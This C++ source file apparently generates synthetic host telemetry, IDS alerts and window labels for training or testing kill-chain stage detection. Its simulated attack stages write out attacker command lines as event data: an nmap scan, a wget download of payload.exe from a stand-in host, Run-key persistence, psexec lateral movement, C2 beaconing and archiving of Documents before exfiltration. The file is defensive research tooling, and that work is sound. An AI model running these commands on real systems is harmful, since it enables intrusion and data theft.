// Licensed under the Apache License, Version 2.0 (the "License"); you
// may not use this file except in compliance with the License.  You
// may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or
// implied.  See the License for the specific language governing
// permissions and limitations under the License.

#include <algorithm>
#include <array>
#include <cmath>
#include <map>

#include "stagefinder/telemetry.hpp"

namespace stagefinder {

namespace {

constexpr std::array<const char*, 16> kUsers{"alice", "bob",   "carol", "dave",  "erin", "frank", "grace", "heidi",
                                              "ivan",  "judy",  "mallory", "niaj", "olivia", "peggy", "rupert", "sybil"};

// Benign activity kinds drawn per instance; every host weighs them differently.
constexpr int kBenignKinds = 6;
constexpr std::array<const char*, 6> kWebHosts{"93.184.216.34", "93.184.216.35", "151.101.1.69",
                                               "151.101.65.69", "142.250.74.46", "142.250.74.78"};
constexpr const char* kDnsServer = "10.1.0.2";

// Every template instance finishes within this many seconds of its start.
constexpr double kInstanceSpan = 0.25;

// Per-stage probability that a template instance after the first raises an
// IDS alert. The first instance of every network-visible stage always does.
constexpr std::array<double, 7> kAlertProbability{0.0, 0.5, 1.0, 0.0, 1.0, 0.3, 0.5};

// A host keeps its user, activity mix and pace for the whole scenario, so
// consecutive windows of one trace resemble each other more than windows of
// another trace.
struct Host {
  int index = 0;
  std::string ip;
  std::string user;
  std::array<double, kBenignKinds> mix{};  // cumulative, last entry 1
  double pace = 1.0;
};

class ScenarioWriter {
 public:
  ScenarioWriter(const ScenarioConfig& cfg, Rng& rng, Scenario& out)
      : cfg_(cfg), rng_(rng), out_(out) {
    for (int h = 0; h < cfg.num_hosts; ++h) {
      Host host{h, generated_host_ip(h), kUsers[rng_.below(kUsers.size())], {}, rng_.uniform(0.5, 1.5)};
      double total = 0.0;
      for (auto& w : host.mix) total += (w = rng_.uniform(0.05, 1.0));
      double run = 0.0;
      for (auto& w : host.mix) w = (run += w / total);
      host.mix.back() = 1.0;
      hosts_.push_back(std::move(host));
    }
    download_ip_ = "203.0.113." + std::to_string(rng_.range(2, 250));
    c2_ip_ = "198.51.100." + std::to_string(rng_.range(2, 120));
    exfil_ip_ = "198.51.100." + std::to_string(rng_.range(130, 250));
  }

  void heartbeats() {
    const int windows = static_cast<int>(std::ceil(cfg_.duration / kWindowSeconds));
    for (int w = 0; w < windows; ++w) {
      for (const auto& h : hosts_) {
        emit(w * kWindowSeconds, h, EventKind::FileRead, process(h, "svchost.exe"),
             file("C:/Windows/System32/config/SOFTWARE"), std::nullopt, "SYSTEM", 4096);
      }
    }
  }

  void benign(const Host& h) {
    const double rate = cfg_.benign_event_rate * h.pace;
    double t = rng_.exponential(rate);
    while (t + kInstanceSpan < cfg_.duration) {
      benign_instance(h, t);
      t += rng_.exponential(rate);
    }
  }

  void attack(const StageInterval& interval) {
    const double len = interval.end - interval.start;
    double t = interval.start + rng_.uniform(0.5, std::max(0.5, std::min(20.0, len / 2)));
    bool first = true;
    while (t < interval.end && t + kInstanceSpan < cfg_.duration) {
      const bool raise = first || rng_.chance(kAlertProbability[static_cast<std::size_t>(interval.stage)]);
      attack_instance(interval.stage, t, raise);
      first = false;
      if (interval.stage == 5) {
        // Beaconing runs on a jittered fixed period.
        t += rng_.uniform(0.9, 1.1) / cfg_.attack_event_rate;
      } else {
        t += rng_.exponential(cfg_.attack_event_rate);
      }
    }
  }

  const std::vector<Host>& hosts() const { return hosts_; }

 private:
  EntityRef process(const Host& h, const std::string& image) {
    const std::string slot = h.ip + "/" + image;
    auto it = pids_.find(slot);
    if (it == pids_.end()) it = pids_.emplace(slot, rng_.range(1000, 9999)).first;
    return {EntityKind::process, h.ip + "/pid:" + std::to_string(it->second) + "/" + image};
  }

  static EntityRef file(std::string path) { return {EntityKind::file, std::move(path)}; }
  static EntityRef ip(std::string addr) { return {EntityKind::ip, std::move(addr)}; }

  void emit(double t, const Host& h, EventKind kind, EntityRef subj, EntityRef obj,
            std::optional<std::string> cmd = std::nullopt, std::optional<std::string> user = std::nullopt,
            std::optional<std::uint64_t> bytes = std::nullopt) {
    HostEvent ev;
    ev.timestamp = cfg_.start_time + t;
    ev.host_id = h.ip;
    ev.kind = kind;
    ev.subject = std::move(subj);
    ev.object = std::move(obj);
    ev.command = std::move(cmd);
    ev.user = std::move(user);
    ev.bytes = bytes;
    out_.events.push_back(std::move(ev));
  }

  // An alert correlated with the network event emitted at relative time t.
  // It trails the event slightly unless that would cross a window boundary.
  void raise_alert(double t, std::string sig, double sev, std::string cat, const std::string& src_ip,
                   const std::string& dst_ip, int dst_port, Protocol proto = Protocol::tcp) {
    double ts = t + 0.01;
    if (std::floor(ts / kWindowSeconds) != std::floor(t / kWindowSeconds)) ts = t;
    NetworkAlert a;
    a.timestamp = cfg_.start_time + ts;
    a.signature = std::move(sig);
    a.severity = sev;
    a.protocol = proto;
    a.category = std::move(cat);
    a.src_ip = src_ip;
    a.src_port = rng_.range(49152, 65535);
    a.dst_ip = dst_ip;
    a.dst_port = dst_port;
    out_.alerts.push_back(std::move(a));
  }

  static std::uint64_t bytes_between(Rng& rng, double lo, double hi) {
    return static_cast<std::uint64_t>(std::llround(rng.uniform(lo, hi)));
  }

  void benign_instance(const Host& h, double t) {
    const std::string docs = "C:/Users/" + h.user + "/Documents/";
    if (rng_.chance(0.05)) {
      const std::string web = kWebHosts[rng_.below(kWebHosts.size())];
      emit(t, h, EventKind::NetConnect, process(h, "chrome.exe"), ip(web), std::nullopt, h.user);
      raise_alert(t, "ET POLICY Cloud Storage Domain in TLS SNI", rng_.uniform(0.1, 0.3), "policy-violation",
                  h.ip, web, 443);
      return;
    }
    const double pick = rng_.uniform();
    int kind = 0;
    while (kind + 1 < kBenignKinds && pick >= h.mix[static_cast<std::size_t>(kind)]) ++kind;
    switch (kind) {
      case 0:
        emit(t, h, EventKind::FileRead, process(h, "chrome.exe"),
             file("C:/Users/" + h.user + "/AppData/Chrome/Cache/data_" + std::to_string(rng_.range(0, 3))),
             std::nullopt, h.user, bytes_between(rng_, 1e3, 1e5));
        break;
      case 1: {
        const std::string web = kWebHosts[rng_.below(kWebHosts.size())];
        emit(t, h, EventKind::NetConnect, process(h, "chrome.exe"), ip(web), std::nullopt, h.user);
        emit(t + 0.05, h, EventKind::NetRecv, process(h, "chrome.exe"), ip(web), std::nullopt, h.user,
             bytes_between(rng_, 5e3, 5e5));
        break;
      }
      case 2:
        emit(t, h, EventKind::FileWrite, process(h, "outlook.exe"),
             file(docs + "report_" + std::to_string(rng_.range(0, 3)) + ".docx"), std::nullopt, h.user,
             bytes_between(rng_, 1e4, 2e5));
        break;
      case 3:
        emit(t, h, EventKind::ProcessCreate, process(h, "explorer.exe"), process(h, "notepad.exe"),
             "notepad.exe " + docs + "notes.txt", h.user);
        break;
      case 4:
        emit(t, h, EventKind::NetSend, process(h, "svchost.exe"), ip(kDnsServer), std::nullopt, "SYSTEM",
             bytes_between(rng_, 60, 120));
        break;
      default:
        emit(t, h, EventKind::FileWrite, process(h, "svchost.exe"), file("C:/Windows/Logs/CBS/CBS.log"),
             std::nullopt, "SYSTEM", bytes_between(rng_, 200, 4000));
        break;
    }
  }

  void attack_instance(int stage, double t, bool raise) {
    const Host& victim = hosts_.front();
    const std::string& u = victim.user;
    const EntityRef payload = process(victim, "payload.exe");
    switch (stage) {
      case 1: {
        const auto scanner = process(victim, "nmap.exe");
        for (int i = 0; i < 3; ++i) {
          const std::string target = "10.1.1." + std::to_string(rng_.range(2, 254));
          const int port = std::array{22, 135, 445, 3389}[rng_.below(4)];
          const double ts = t + 0.02 * i;
          emit(ts, victim, EventKind::NetConnect, scanner, ip(target), "nmap.exe -sS -p 22,135,445,3389 10.1.1.0/24",
               u);
          if (raise && i == 0) {
            raise_alert(ts, "ET SCAN Potential SSH SMB RDP Scan", 0.4, "attempted-recon", victim.ip, target, port);
          }
        }
        break;
      }
      case 2: {
        const auto powershell = process(victim, "powershell.exe");
        const auto wget = process(victim, "wget.exe");
        emit(t, victim, EventKind::ProcessCreate, powershell, wget,
             "wget.exe http://" + download_ip_ + "/payload.exe -O payload.exe", u);
        emit(t + 0.05, victim, EventKind::NetConnect, wget, ip(download_ip_), std::nullopt, u);
        if (raise) {
          raise_alert(t + 0.05, "ET TROJAN Possible Malicious EXE Download", 0.9, "trojan-activity", victim.ip,
                      download_ip_, 80);
        }
        emit(t + 0.10, victim, EventKind::NetRecv, wget, ip(download_ip_), std::nullopt, u,
             bytes_between(rng_, 2e5, 8e5));
        emit(t + 0.15, victim, EventKind::FileCreate, wget, file("C:/Users/" + u + "/Downloads/payload.exe"),
             std::nullopt, u);
        emit(t + 0.20, victim, EventKind::ProcessCreate, payload, payload, "payload.exe", u);
        break;
      }
      case 3: {
        const auto reg = process(victim, "reg.exe");
        emit(t, victim, EventKind::ProcessCreate, payload, reg,
             "reg.exe add HKLM/Software/Microsoft/Windows/CurrentVersion/Run /v updater /d payload.exe", "SYSTEM");
        emit(t + 0.05, victim, EventKind::RegistryWrite, reg,
             file("HKLM/Software/Microsoft/Windows/CurrentVersion/Run/updater"), std::nullopt, "SYSTEM");
        emit(t + 0.10, victim, EventKind::FileWrite, payload, file("C:/Windows/System32/updater.dll"),
             std::nullopt, "SYSTEM", bytes_between(rng_, 5e4, 2e5));
        break;
      }
      case 4: {
        const bool has_target = hosts_.size() > 1;
        const std::string target_ip = has_target ? hosts_[1].ip : std::string("10.1.1.200");
        const auto psexec = process(victim, "psexec.exe");
        emit(t, victim, EventKind::ProcessCreate, payload, psexec, "psexec.exe //" + target_ip + " -s cmd.exe",
             "SYSTEM");
        emit(t + 0.05, victim, EventKind::NetConnect, psexec, ip(target_ip), std::nullopt, "SYSTEM");
        emit(t + 0.10, victim, EventKind::NetSend, psexec, ip(target_ip), std::nullopt, "SYSTEM",
             bytes_between(rng_, 2e3, 2e4));
        if (raise) {
          raise_alert(t + 0.05, "ET POLICY PsExec Service Start via SMB", 0.7, "policy-violation", victim.ip,
                      target_ip, 445);
        }
        if (has_target) {
          const Host& target = hosts_[1];
          const auto services = process(target, "services.exe");
          const auto svc = process(target, "psexesvc.exe");
          emit(t + 0.15, target, EventKind::ProcessCreate, services, svc, "psexesvc.exe", "SYSTEM");
          emit(t + 0.20, target, EventKind::ProcessCreate, svc, process(target, "cmd.exe"), "cmd.exe /c whoami",
               "SYSTEM");
        }
        break;
      }
      case 5: {
        emit(t, victim, EventKind::NetSend, payload, ip(c2_ip_), std::nullopt, u, bytes_between(rng_, 150, 400));
        emit(t + 0.05, victim, EventKind::NetRecv, payload, ip(c2_ip_), std::nullopt, u,
             bytes_between(rng_, 50, 200));
        if (raise) {
          raise_alert(t, "ET MALWARE Possible Periodic C2 Beacon", 0.8, "command-and-control", victim.ip, c2_ip_,
                      443);
        }
        break;
      }
      case 6: {
        const auto archiver = process(victim, "7z.exe");
        const std::string archive = "C:/Users/Public/data.7z";
        emit(t, victim, EventKind::ProcessCreate, payload, archiver,
             "7z.exe a " + archive + " C:/Users/" + u + "/Documents", u);
        emit(t + 0.05, victim, EventKind::FileRead, archiver,
             file("C:/Users/" + u + "/Documents/report_" + std::to_string(rng_.range(0, 3)) + ".docx"),
             std::nullopt, u, bytes_between(rng_, 1e6, 1e7));
        emit(t + 0.10, victim, EventKind::FileWrite, archiver, file(archive), std::nullopt, u,
             bytes_between(rng_, 1e6, 5e6));
        emit(t + 0.15, victim, EventKind::NetSend, payload, ip(exfil_ip_), std::nullopt, u,
             bytes_between(rng_, 1e7, 5e7));
        if (raise) {
          raise_alert(t + 0.15, "ET POLICY Large Outbound Data Transfer", 0.6, "data-exfiltration", victim.ip,
                      exfil_ip_, 443);
        }
        break;
      }
      default:
        break;
    }
  }

  const ScenarioConfig& cfg_;
  Rng& rng_;
  Scenario& out_;
  std::vector<Host> hosts_;
  std::map<std::string, int> pids_;
  std::string download_ip_;
  std::string c2_ip_;
  std::string exfil_ip_;
};

}  // namespace

std::string generated_host_ip(int host_index) { return "10.1.1." + std::to_string(45 + host_index); }

void validate(const ScenarioConfig& cfg) {
  if (cfg.num_hosts < 1) throw ConfigError("num_hosts must be >= 1");
  if (!(cfg.duration > 0)) throw ConfigError("duration must be positive");
  if (!(cfg.benign_event_rate > 0) || !(cfg.attack_event_rate > 0)) {
    throw ConfigError("event rates must be positive");
  }
  double prev_end = 0.0;
  for (const auto& iv : cfg.stage_schedule) {
    if (iv.stage < 1 || iv.stage > 6) throw ConfigError("stage must be in 1..6");
    if (!(iv.start < iv.end)) throw ConfigError("stage interval must have start < end");
    if (iv.start < prev_end) throw ConfigError("stage intervals must be sorted and non-overlapping");
    if (iv.start < 0 || iv.end > cfg.duration) throw ConfigError("stage interval outside [0, duration]");
    prev_end = iv.end;
  }
}

std::vector<int> label_windows(const std::vector<StageInterval>& schedule, int num_windows, double window_len) {
  std::vector<int> labels(static_cast<std::size_t>(std::max(0, num_windows)), 0);
  for (int w = 0; w < num_windows; ++w) {
    const double lo = w * window_len;
    const double hi = lo + window_len;
    std::array<double, kNumStages> share{};
    double covered = 0.0;
    for (const auto& iv : schedule) {
      const double overlap = std::max(0.0, std::min(hi, iv.end) - std::max(lo, iv.start));
      share[static_cast<std::size_t>(iv.stage)] += overlap;
      covered += overlap;
    }
    share[0] = window_len - covered;
    // First maximum wins, so ties fall to the smaller class id.
    labels[static_cast<std::size_t>(w)] =
        static_cast<int>(std::max_element(share.begin(), share.end()) - share.begin());
  }
  return labels;
}

std::vector<StageInterval> random_kill_chain(Rng& rng, int num_windows, int min_stage_windows,
                                             int max_stage_windows, int max_gap_windows) {
  std::vector<StageInterval> out;
  int w = rng.range(1, 3);
  for (int stage = 1; stage <= 6; ++stage) {
    const int len = rng.range(min_stage_windows, max_stage_windows);
    if (w >= num_windows) break;
    const int end = std::min(num_windows, w + len);
    out.push_back({stage, w * kWindowSeconds, end * kWindowSeconds});
    w = end + rng.range(0, max_gap_windows);
  }
  return out;
}

Scenario generate_scenario(const ScenarioConfig& cfg) {
  validate(cfg);
  Rng rng(cfg.seed);
  Scenario out;
  ScenarioWriter writer(cfg, rng, out);
  writer.heartbeats();
  for (const auto& h : writer.hosts()) writer.benign(h);
  for (const auto& iv : cfg.stage_schedule) writer.attack(iv);

  auto by_time = [](const auto& a, const auto& b) { return a.timestamp < b.timestamp; };
  std::stable_sort(out.events.begin(), out.events.end(), by_time);
  std::stable_sort(out.alerts.begin(), out.alerts.end(), by_time);
  const int windows = static_cast<int>(std::ceil(cfg.duration / kWindowSeconds));
  out.window_labels = label_windows(cfg.stage_schedule, windows);
  return out;
}

}  // namespace stagefinder
